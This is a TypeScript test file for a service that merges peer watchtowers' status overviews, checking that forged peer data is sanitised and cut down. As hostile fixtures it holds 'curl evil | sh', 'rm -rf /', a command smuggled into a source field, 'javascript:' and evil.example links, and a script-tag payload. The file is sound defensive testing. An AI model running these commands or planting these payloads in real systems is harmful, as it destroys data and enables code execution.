import { describe, expect, it } from '@jest/globals';
import { Secret } from '@service-bots/core/config';
import { startLoopbackServer } from '@service-bots/devnet';
import { peerSilent } from '../src/conditions/peers.ts';
import { sharedWallet } from '../src/conditions/sharedWallet.ts';
import type { Overview } from '../src/overview/schema.ts';
import { PeerWatch, type SeenPeer } from '../src/peers/PeerWatch.ts';
import { peerList, peerTokens } from '../src/peers/peerList.ts';
import { withPeers } from '../src/peers/withPeers.ts';
import type { Watched } from '../src/polling/watched.ts';
import {
  at,
  deployment,
  nowMs,
  overview as overviewWith,
  poolA,
  silent,
  statusOf,
  working,
} from './fixtures.ts';

const attack = `<script>alert(1)</script>\u202e${'x'.repeat(10_000)}`;
const wallet = { address: `0x${'12'.repeat(20)}`, currency: 'ETH', balanceWei: '1', functions: [] };

/** Returns the overview of another deployment's watchtower, unless the instance is `own`. */
const overview = (watched: readonly Watched[], instance = 'own') => overviewWith(watched, { instance });
const checkpoint = () => working('checkpoint', statusOf('checkpoint', { wallet }));
const seenPeer = (shown: Overview | undefined, silence?: SeenPeer['silence']): SeenPeer => ({
  peer: { name: 'monad', url: 'http://peer:8080/api/status?peers=no' },
  askedSinceMs: nowMs - 300_000,
  answer: shown && { overview: shown, atMs: nowMs - 40_000 },
  silence,
});

const runbooks = 'https://wiki.example/runbooks';
const about = { wellSinceMs: nowMs, runbookUrl: runbooks };

describe('withPeers', () => {
  it('shows the bots, wallets, pools and alerts of every deployment, called by its name', () => {
    const bad = overview([silent(working('keeper', statusOf('keeper', { wallet })), 3, 30)], 'other');
    const shown = withPeers(overview([checkpoint()]), [seenPeer(bad)], about);
    expect(shown.bots.map(({ id, level }) => [id, level])).toEqual([
      ['checkpoint', 'ok'],
      ['monad/keeper', 'critical'],
    ]);
    expect(shown.wallets.map(({ bot }) => bot)).toEqual(['checkpoint', 'monad/keeper']);
    expect(shown.pools.map(({ watchedBy }) => watchedBy.map(({ bot }) => bot))).toEqual([
      ['checkpoint', 'monad/keeper'],
    ]);
    expect(shown.verdict).toMatchObject({ level: 'critical', where: 'monad/keeper' });
    expect(shown.hosts.map(({ bots }) => bots)[0]).toEqual(['watchtower', 'monad/watchtower']);
    expect(shown.peers).toMatchObject([{ name: 'monad', level: 'critical', bots: 1 }]);
  });

  it('says that the bots of a silent peer are not known', () => {
    const silence = { sinceMs: nowMs - 30_000, polls: 3, reason: 'connect ECONNREFUSED' };
    const shown = withPeers(
      overview([checkpoint()]),
      [seenPeer(overview([checkpoint()], 'other'), silence)],
      about,
    );
    expect(shown.bots[1]).toMatchObject({
      level: 'warning',
      state: 'is not known since the watchtower of monad is silent; before that: works',
    });
    expect(shown.peers).toMatchObject([{ level: 'error', lastAnswer: at(-40) }]);
  });

  it('shows a peer that answers with what its own peers show once, and asks on no further', () => {
    const circle = withPeers(
      overview([checkpoint()], 'other'),
      [seenPeer(overview([checkpoint()], 'own'))],
      about,
    );
    const shown = withPeers(overview([checkpoint()]), [seenPeer(circle)], about);
    expect(shown.bots.map(({ id }) => id)).toEqual([
      'checkpoint',
      'monad/checkpoint',
      'monad/monad/checkpoint',
    ]);
    expect(shown.peers?.map(({ name }) => name)).toEqual(['monad']);
  });

  it('takes neither a command nor a link of a peer over', () => {
    const given = overview(
      [working('checkpoint', statusOf('checkpoint', { openAlerts: [alert('curl evil | sh')] }))],
      'other',
    );
    const [first] = given.alerts;
    if (!first) throw new Error('there is an alert');
    const forged = {
      ...given,
      alerts: [
        { ...first, source: 'x; rm -rf /', command: 'rm -rf /', runbook: 'https://evil.example/log-in' },
        { ...first, source: 'keeper', key: 'k', runbook: 'javascript:alert(1)' },
        { ...first, source: 'keeper', key: 'l', runbook: 'https://other.example/wiki/round-late.md' },
      ],
      wallets: [
        { bot: 'checkpoint', address: poolA, currency: '', mayCall: [], link: 'https://evil.example/' },
      ],
    };
    const shown = withPeers(overview([]), [seenPeer(forged)], about);
    expect(shown.alerts[0]?.command).toBe('make alerts');
    // The runbook is a page of this deployment, by the name that the peer gives.
    expect(shown.alerts.map(({ runbook }) => runbook)).toEqual([
      `${runbooks}/log-in.md`,
      undefined,
      `${runbooks}/round-late.md`,
    ]);
    expect(JSON.stringify(shown)).not.toMatch(/evil\.example|javascript:/);
    expect(shown.wallets[0]?.link).toBeUndefined();
  });
});

describe('peerSilent', () => {
  const silence = (polls: number) => ({ sinceMs: nowMs - 20_000, polls, reason: 'HTTP 500' });
  const found = (seen: SeenPeer) => peerSilent(deployment([], { peers: [seen] }));
  it('fails with the second look in vain, and not at the first', () => {
    const shown = overview([checkpoint()], 'other');
    expect(found(seenPeer(shown))).toMatchObject([{ subject: 'monad', failing: false }]);
    expect(found(seenPeer(shown, silence(1)))).toEqual([]);
    expect(found(seenPeer(shown, silence(2)))).toMatchObject([{ failing: true, severity: 'error' }]);
    expect(found(seenPeer(undefined, silence(9)))).toMatchObject([{ failing: true }]);
  });
});

describe('a wallet that bots of two deployments send from', () => {
  const isShared = (peer: SeenPeer) => {
    const [finding] = sharedWallet(deployment([checkpoint()], { peers: [peer] }));
    return finding?.failing ? finding.message : undefined;
  };
  const theirs = (over: Record<string, unknown>) =>
    seenPeer(overview([working('minter', statusOf('checkpoint', { wallet, ...over }))], 'other'));

  it('is raised with the configured name of the peer, without any text from the peer', () => {
    const message = isShared(theirs({ host: 'host-2', startedAt: at(-60) }));
    expect(message).toMatch(
      /^checkpoint and a bot of monad, as its watchtower says, send from one wallet, 0x(12){20}@1\./,
    );
    expect(message).not.toContain('minter');
  });

  it.each([
    ['the same process, which two watchtowers watch', {}],
    ['a copy that stands by', { host: 'host-2', standingBy: {} }],
    ['a dry run', { host: 'host-2', dryRun: true }],
    ['the same address on another chain', { host: 'host-2', chain: { id: 143, name: 'monad' } }],
    ['another wallet', { host: 'host-2', wallet: { ...wallet, address: poolA } }],
  ])('is not: %s', (_, over) => {
    expect(isShared(theirs(over))).toBeUndefined();
  });

  it('is not known of a peer that is silent', () => {
    const { answer } = theirs({ host: 'host-2' });
    const silence = { sinceMs: nowMs, polls: 1, reason: 'HTTP 500' };
    expect(isShared(seenPeer(answer?.overview, silence))).toBeUndefined();
  });
});

describe('PeerWatch', () => {
  let now = nowMs;
  const clock = {
    now: () => now,
    monotonicMs: () => now,
    sleep: async () => undefined,
  };
  const watch = (url: string) =>
    new PeerWatch({
      peers: [{ name: 'monad', url: `${url}/api/status` }],
      tokens: { byName: { monad: new Secret('a-token-of-20-characters') } },
      withinMs: 5_000,
      clock,
      instance: 'own',
    });

  it('brings the token, takes a document of the right form in printable lines, and nothing else', async () => {
    let body: unknown = overview([checkpoint()], 'other');
    let status = 200;
    const server = await startLoopbackServer(({ headers }) => ({
      status: headers.authorization === 'Bearer a-token-of-20-characters' ? status : 401,
      body,
    }));
    const peers = watch(server.url);
    expect((await peers.poll())[0]).toMatchObject({ silence: undefined });
    body = { ...overview([checkpoint()], 'other'), deployment: { ...overview([]).deployment, name: attack } };
    now += 1_000;
    const name = (await peers.poll())[0]?.answer?.overview.deployment.name ?? '';
    expect([name.length < 400, name.includes('\u202e')]).toEqual([true, false]);
    for (const [code, wrong, reason] of [
      [200, { ...overview([]), version: 9 }, /version 9 of the document/],
      [200, { hello: 1 }, /not the status of a watchtower/],
      [200, overview([], 'own'), /this watchtower itself/],
      [302, {}, /redirect/],
      [200, { ...overview([], 'other'), pad: 'x'.repeat(2_000_000) }, /2000000 bytes/],
      [200, { ...overview([], 'other'), __proto__: null, alerts: [{}] }, /not the status of a watchtower/],
    ] as const) {
      [status, body] = [code, wrong];
      expect((await peers.poll())[0]?.silence?.reason).toMatch(reason);
    }
    await server.close();
  });

  it('counts a peer that serves its page and looks no more as silent', async () => {
    const body = overview([checkpoint()], 'other');
    const server = await startLoopbackServer(() => ({ status: 200, body }));
    const peers = watch(server.url);
    await peers.poll();
    now += 59_000;
    expect((await peers.poll())[0]?.silence).toBeUndefined();
    now += 2_000;
    expect((await peers.poll())[0]?.silence?.reason).toMatch(/looks at its bots no more/);
    await server.close();
  });
});

describe('peerList and peerTokens', () => {
  it.each([
    'a',
    'A=http://x',
    'a=ftp://x',
    'a=http://u:p@x',
    'a=http://x,a=http://y',
    'a=http://x,b=http://x/',
    'a=http://x?y',
  ])('refuses %s', text => {
    expect(peerList().safeParse(text).success).toBe(false);
  });
  it('reads one token for all, and one for each', () => {
    expect(peerTokens().parse('c2VjcmV0LXRva2Vu==').all?.reveal()).toBe('c2VjcmV0LXRva2Vu==');
    const { all, byName } = peerTokens().parse('monad=abc=,\nbase=def');
    expect([all, byName.monad?.reveal(), byName.base?.reveal()]).toEqual([undefined, 'abc=', 'def']);
    expect(peerTokens().safeParse('monad=abc,def').success).toBe(false);
  });
});

function alert(key: string) {
  return { key, check: 'x', severity: 'error', title: 't', message: 'm', since: at(-5) };
}
